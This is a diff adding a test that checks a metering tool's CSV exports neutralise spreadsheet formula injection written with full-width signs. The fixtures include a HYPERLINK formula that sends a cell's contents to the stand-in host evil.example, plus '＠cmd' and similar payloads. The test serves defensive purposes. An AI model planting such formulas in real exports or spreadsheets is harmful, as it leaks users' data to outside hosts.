@@ -154,6 +154,34 @@ describe('formulas behind leading whitespace in CSV exports', () => {
   });
 });
 
+describe('full-width formula signs in CSV exports', () => {
+  // Excel with a Japanese input method takes ＝ ＋ － ＠ (U+FF1D, U+FF0B, U+FF0D, U+FF20) for = + - @.
+  const SENT = {
+    customer_id: '＝HYPERLINK("https://evil.example/?d="&A1,"invoice")',
+    model: '＋1+1',
+    job_id: '－2+3',
+    reviewer_id: '＠cmd',
+    region: '\u3000＝1+1',
+  };
+  const LIVE = /^\s*[=+\-@＝＋－＠]/;
+
+  function expectMarked(csv: string) {
+    const [header, row] = parseCsv(csv);
+    for (const cell of row) expect(cell).not.toMatch(LIVE);
+    for (const [field, text] of Object.entries(SENT)) expect(restoreText(row[header.indexOf(field)])).toBe(text);
+  }
+
+  it('the nightly CSV and doGet?action=export mark them and give back the exact text', () => {
+    const { platform, meter } = freshMeter('2026-11-21T15:00:00Z');
+    expect(post(meter, { event_id: 'w1', timestamp: '2026-11-21T10:00:00Z', ...SENT }).ok).toBe(true);
+    const out = meter.doGet({ parameter: { token: SECRET, action: 'export', since: '2026-11-21' } }) as FakeTextOutput;
+    expectMarked(out.getContent());
+    platform.clock.set('2026-11-22T01:00:00Z');
+    meter.exportArchive();
+    expectMarked(platform.drive.folders[0].files[0].content);
+  });
+});
+
 describe('the UNPRICED mark', () => {
   it("counts towards error_code's 1,000 characters: a code too long for the mark is refused by name, nothing stored", () => {
     const { platform, meter } = freshMeter();
